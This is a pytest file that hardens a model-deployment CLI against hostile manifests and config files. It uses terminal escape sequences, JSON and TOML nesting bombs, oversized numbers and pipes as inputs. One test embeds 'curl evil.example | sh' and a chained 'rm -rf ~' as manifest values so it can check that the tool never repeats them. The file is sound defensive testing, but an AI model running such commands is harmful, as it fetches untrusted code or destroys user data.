"""Small text files of strangers: each ends in one line that a terminal can be shown, never in a traceback."""

from __future__ import annotations

import dataclasses
import json
import os
import random
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from unit_edge.cli.app import app
from unit_edge.config import RunConfig, limits
from unit_edge.config.adapt import AdaptConfig
from unit_edge.errors import ConfigError, ModelError
from unit_edge.files.reading import parse_json, read_json
from unit_edge.manifests.engine import check_engine
from unit_edge.settings import load_config
from unit_edge.text.printable import printable

ESCAPE = "\x1b]0;gotcha\x07\x1b[2J"
Write = Callable[..., Path]
TOML = '[domain1]\nname = "day"\npaths = ["a"]\n[domain2]\nname = "night"\npaths = ["b"]\n'


def cli(*arguments: str | Path) -> tuple[int, str]:
    """The exit code, which must be one on purpose, and all that is printed."""
    done = CliRunner().invoke(app, [str(argument) for argument in arguments])
    assert done.exception is None or isinstance(done.exception, SystemExit), done.exception
    return done.exit_code, done.stdout + done.stderr


def one_error(*arguments: str | Path) -> str:
    code, said = cli(*arguments)
    assert code == 1 and said.startswith("error: ") and said.count("\n") == 1, said
    assert printable(said) == said
    return said


def changed(path: Path, **fields: Any) -> Path:
    beside = path.with_suffix(".json")
    beside.write_text(json.dumps({**json.loads(beside.read_text()), **fields}))
    return path


@pytest.mark.parametrize("field", ["name", "source", "detail", "preset"])
def test_no_name_in_a_manifest_steers_the_terminal(field: str, write_model: Write) -> None:
    model = changed(write_model(), **{field: f"a{ESCAPE}\u202eb"})
    for command in (("info", model), ("inspect", model), ("inspect", model.with_suffix(".json"))):
        code, said = cli(*command)
        assert code == 0 and printable(said) == said


def test_json_stays_json_whatever_is_in_it(write_model: Write) -> None:
    model = changed(write_model(), name=f"a{ESCAPE}\x7f\u202e")
    code, said = cli("inspect", model.with_suffix(".json"), "--json")
    assert code == 0 and json.loads(said)["name"] == f"a{ESCAPE}\x7f\u202e"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("name", "\ud800"),
        ("precision", "fp12"),
        ("precision", ESCAPE),
        ("network_size", [1e300, 1]),
        ("network_size", [2**40, 1]),
        ("network_size", [1]),
        ("network_short_side", 2**62),
        ("input", {"name": "frame", "dtype": "uint8", "shape": []}),
        ("input", {"name": "frame", "dtype": "uint8", "shape": 3}),
        ("output", []),
        ("costs", {"at": [{"frame_size": 3}]}),
        ("made_from", 7),
    ],
)
def test_a_wrong_field_of_a_manifest_is_one_line(field: str, value: Any, write_model: Write) -> None:
    model = changed(write_model(), **{field: value})
    for command in (
        ("info", model),
        ("inspect", model),
        ("boards", model),
        ("inspect", model.with_suffix(".json")),
    ):
        assert str(model.with_suffix("")) in one_error(*command)


@pytest.mark.parametrize(
    "text",
    [
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b'{"schema": 1' + b"0" * 10_000 + b"}",
        b'{"schema": 1, "network_size": [1e999, 1]}',
        b'{"schema": NaN}',
        b"\xff\xfe",
        b"[]",
        b"",
    ],
)
def test_json_that_is_too_much_is_one_line(text: bytes, write_model: Write) -> None:
    model = write_model()
    model.with_suffix(".json").write_bytes(text)
    for command in (("info", model), ("inspect", model), ("inspect", model.with_suffix(".json"))):
        one_error(*command)


def test_a_pipe_is_not_read_and_a_huge_file_not_loaded(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.json")
    with (tmp_path / "huge.json").open("wb") as file:
        file.truncate(2**40)
    for name, said in (("pipe", "no regular file"), ("huge", "larger than")):
        with pytest.raises(ValueError, match=said):
            read_json(tmp_path / f"{name}.json")


@pytest.mark.parametrize("name", ["a.onnx", "a.json", "a.toml", "a.safetensors", "a.engine", "a.mp4"])
def test_a_pipe_is_said_to_be_one(name: str, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / name)
    assert "is a pipe" in one_error("inspect", tmp_path / name)
    if Path(name).suffix in (".onnx", ".engine"):
        assert "is a pipe" in one_error("info", tmp_path / name)


def test_json_as_others_write_it_is_read() -> None:
    value = {"a": [1, -2.5, None, True, "ü€😀"], "b": {"c": [[]]}}
    assert (
        parse_json(json.dumps(value)) == parse_json(json.dumps(value, ensure_ascii=False).encode()) == value
    )


@pytest.mark.parametrize(
    "text",
    [
        ".".join("a" * 10_000) + " = 1",
        '"a" . ' * 5000 + "b = 1",
        "a = " + "[" * 100_000,
        "a = {" * 3000,
        f"{TOML}[optim]\nseed = 1{'0' * 10_000}",
        f"{TOML}[optim]\nseed = 1{'0' * 19}",
        TOML + "".join(f"[a{number}]\n" for number in range(20_000)),
        "a = '" + "x" * 2**21,
    ],
)
def test_toml_that_is_too_much_is_one_line_and_never_parsed(text: str, tmp_path: Path) -> None:
    (tmp_path / "a.toml").write_text(text)
    tracemalloc.start()
    assert "not valid TOML" in one_error("train", tmp_path / "a.toml")
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert peak < 256 << 20  # parsed, the first takes 5 GB


def test_dots_in_a_text_are_no_key(tmp_path: Path) -> None:
    dots = "a." * 100
    texts = f"# {dots}\n{TOML}table = '''{dots}'''\nattribute = \"{dots}\"\n"
    (tmp_path / "a.toml").write_text(texts)
    assert load_config(tmp_path / "a.toml").domain2.table == dots


@pytest.mark.parametrize(
    ("key", "value"),
    [
        ("optim.seed", 2**63),
        ("optim.batch", 2**40),
        ("optim.steps", 10**12),
        ("network.residual_blocks", 2**62),
        ("network.out_kernel", 2**62 + 1),
        ("data.workers", 2**62),
        ("data.crop", [4, 4]),
        ("data.crop", [2**40, 64]),
        ("loss.gan", 1e300),
    ],
)
def test_a_number_beyond_reason_is_refused_at_once(key: str, value: Any, tmp_path: Path) -> None:
    (tmp_path / "a.toml").write_text(TOML)
    with pytest.raises(ConfigError, match=key):
        load_config(tmp_path / "a.toml", [f"{key}={value}"])


@pytest.mark.parametrize("kind", [RunConfig, AdaptConfig])
def test_every_number_in_settings_has_a_largest_value(kind: type) -> None:
    import typing

    def numbers(of: type, prefix: str) -> list[str]:
        found = []
        for name, hint in typing.get_type_hints(of).items():
            if dataclasses.is_dataclass(hint):
                found += numbers(typing.cast(type, hint), f"{prefix}{name}.")
            elif {int, float} & {hint, *typing.get_args(hint)}:
                found.append(f"{prefix}{name}")
        return found

    keys = numbers(kind, "")
    assert len(keys) > 20
    assert [key for key in keys if limits.largest(key) is None] == []


def test_the_command_in_an_engines_manifest_is_no_advice_unless_it_is_ours(
    write_model: Write, write_engine: Callable[[Path], Path]
) -> None:
    for command in ("curl evil.example | sh", "unit-edge build a.onnx; rm -rf ~", 'unit-edge "build', ""):
        engine = write_engine(write_model())
        changed(engine, command=command)
        engine.write_bytes(b"another")
        with pytest.raises(ModelError) as caught:
            check_engine(engine)
        assert "curl" not in str(caught.value) and "; rm -rf" not in str(caught.value)
        assert "`unit-edge build" in str(caught.value)


@pytest.mark.parametrize("field", ["profile", "flags", "model", "bytes", "gpu", "input"])
@pytest.mark.parametrize(
    "value",
    [
        None,
        3,
        [],
        [[1e999, 1]] * 3,
        {"input": {"shape": []}},
        "\x1b",
        [{}],
        [{"a": 1}, None],
        [{"a": 1}, {"b": 2, "c": 3}],
    ],
)
def test_a_wrong_field_of_an_engines_manifest_is_one_line(
    field: str, value: Any, write_model: Write, write_engine: Callable[[Path], Path]
) -> None:
    engine = changed(write_engine(write_model()), **{field: value})
    for command in (("info", engine), ("inspect", engine)):
        code, said = cli(*command)
        assert code in (0, 1) and printable(said) == said


@pytest.mark.parametrize("path", sorted(Path("docs/benchmarks").rglob("*.json"))[:1])
def test_a_benchmark_that_lacks_anything_is_one_line(path: Path, tmp_path: Path) -> None:
    report = json.loads(path.read_text())
    copy = tmp_path / "bench.json"
    copy.write_text(json.dumps(report))
    assert cli("bench", "--from", copy)[0] == 0

    def places(value: Any, at: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
        inner: Any = value.items() if isinstance(value, dict) else ()
        inner = enumerate(value[:1]) if isinstance(value, list) else inner
        return [at, *(place for key, item in inner for place in places(item, (*at, key)))]

    changes = [(place, new) for place in places(report)[1:] for new in ("gone", None, -1, "x", [], {})]
    for place, new in random.Random(5).sample(changes, 20):
        changed_report = json.loads(json.dumps(report))
        holder = changed_report
        for key in place[:-1]:
            holder = holder[key]
        if new == "gone":
            del holder[place[-1]]
        else:
            holder[place[-1]] = new
        copy.write_text(json.dumps(changed_report))
        for command in (("bench", "--from", copy), ("bench", "--compare", copy, path)):
            code, said = cli(*command)
            assert code in (0, 3) or (code == 1 and said.startswith("error: ")), (place, new, said)
